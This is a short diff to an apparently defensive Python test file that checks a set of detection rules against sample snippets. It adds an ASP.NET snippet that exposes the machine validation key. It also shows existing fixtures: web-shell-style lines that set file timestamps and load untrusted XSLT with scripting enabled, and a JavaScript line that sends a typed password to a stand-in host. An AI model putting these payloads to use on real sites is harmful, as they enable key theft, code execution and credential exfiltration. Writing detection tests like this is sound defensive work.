@@ -200,6 +200,8 @@ def test_every_rule_of_ours_is_tried():
         "changed_times": CS + '<% File.SetLastWriteTime(Request["f"], d); %>',
         "transformed_with_script": CS + '<% new XslCompiledTransform().Load(Request["x"], '
         "XsltSettings.TrustedXslt, r); %>",
+        "machine_keys_shown": CS + '<% var s = typeof(Page).Assembly.GetType("System.Web.Configuration.'
+        'MachineKeySection").GetMethod("GetApplicationConfig"); Response.Write(s.ValidationKey); %>',
         "passwords_sent": "<script>var p = gbid('password').value; fetch('//x.example/?' + p)</script>",
     }  # fmt: skip
     for rule, text in more.items():
